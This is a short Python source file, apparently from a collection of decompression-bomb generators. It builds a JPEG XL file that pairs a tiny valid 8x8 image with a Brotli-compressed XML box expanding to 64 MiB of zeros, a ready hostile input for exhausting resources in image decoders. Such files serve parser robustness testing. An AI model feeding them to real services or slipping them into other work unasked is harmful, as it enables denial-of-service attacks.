from bombs.boxes import box
from bombs.collection import bombs_of

bomb = bombs_of("jxl")

SMALL = bytes.fromhex("ff0a414024080401003c004b188b15801dd4ff0018d0af9a1801")  # a picture of 8x8
ZEROS = bytes.fromhex(  # 64 MiB of them as Brotli has them
    "cbffff3f002400e2b14072effff8ffff078004401c1680eefd1fffffff00900088c302d0bdffe3ffff1f001200715800baf77ffcffff0340"
    "02200e0b40f7fe8fffff7f004800c46101e8defff1ffff0f000980382c00ddfbbffcfff7032001108705a07bef07"
)


@bomb
def compressed_record(size):
    parts = [(b"JXL ", b"\r\n\x87\n"), (b"ftyp", b"jxl \0\0\0\0jxl "), (b"brob", b"xml " + ZEROS), (b"jxlc", SMALL)]
    return [box(*part) for part in parts]
